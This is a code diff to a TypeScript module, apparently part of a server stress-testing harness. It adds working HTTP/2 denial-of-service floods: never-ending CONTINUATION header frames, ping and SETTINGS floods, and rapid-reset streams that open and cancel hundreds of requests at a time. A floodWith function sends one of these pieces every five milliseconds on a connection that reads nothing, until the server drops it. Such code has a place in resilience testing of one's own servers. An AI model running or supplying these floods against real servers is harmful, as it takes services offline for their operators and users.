@@ -145,6 +145,49 @@ export function breakHttp2({ perSecond, ...aim }: Aim & { perSecond: number }): 
   }
 }
 
+/** Floods of frames that HTTP/2 allows; each a piece that is sent again and again on one connection. */
+export const floods: Readonly<Record<string, (turn: number) => Buffer>> = {
+  'headers that do not end': (turn) =>
+    rawFrame(
+      turn === 0
+        ? { type: 1, stream: 1, payload: Buffer.from([0x82]) }
+        : { type: 9, stream: 1, payload: headerLine.subarray(0, 16_000) },
+    ),
+  pings: () => Buffer.concat(Array.from({ length: 1000 }, () => rawFrame({ type: 6, payload: Buffer.alloc(8) }))),
+  settings: () => Buffer.concat(Array.from({ length: 1000 }, () => settings)),
+  'calls that are reset at once': (turn) =>
+    Buffer.concat(
+      Array.from({ length: 500 }, (_, index) => {
+        const stream = 1 + 2 * (turn * 500 + index)
+        const head = rawFrame({ type: 1, flags: 4, stream, payload: Buffer.from([0x82, 0x84, 0x86]) })
+        return Buffer.concat([head, rawFrame({ type: 3, stream, payload: Buffer.from([0, 0, 0, 8]) })])
+      }),
+    ),
+}
+
+/** A header of HPACK that is not kept: a name of one letter and a value of 15,990. */
+const headerLine = Buffer.concat([Buffer.from([0x00, 0x01, 0x78, 0x7f, 0xf7, 0x7b]), Buffer.alloc(16_000, 0x61)])
+
+/** Sends one of the floods on a connection that reads nothing, until the server ends it. */
+export function floodWith({ piece, ...aim }: Aim & { piece: (turn: number) => Buffer }): Attack {
+  const { dial, cut, closeAll } = dialer(aim)
+  const socket = dial()
+  socket.pause()
+  socket.write(Buffer.concat([preface, settings]))
+  let turn = 0
+  const timer = setInterval(() => {
+    // What the system still takes; a socket that nobody reads from takes no more.
+    if (socket.writable && socket.writableLength < 4 * mostBytes) socket.write(piece(turn++))
+  }, 5)
+  return {
+    cut,
+    close() {
+      clearInterval(timer)
+      closeAll()
+    },
+  }
+}
+
 /** S-56: many connections at once that begin with `words` and say nothing more. */
 export function openMany({ count, words, ...aim }: Aim & { count: number; words: string }): Attack {
   const { dial, cut, closeAll } = dialer(aim)
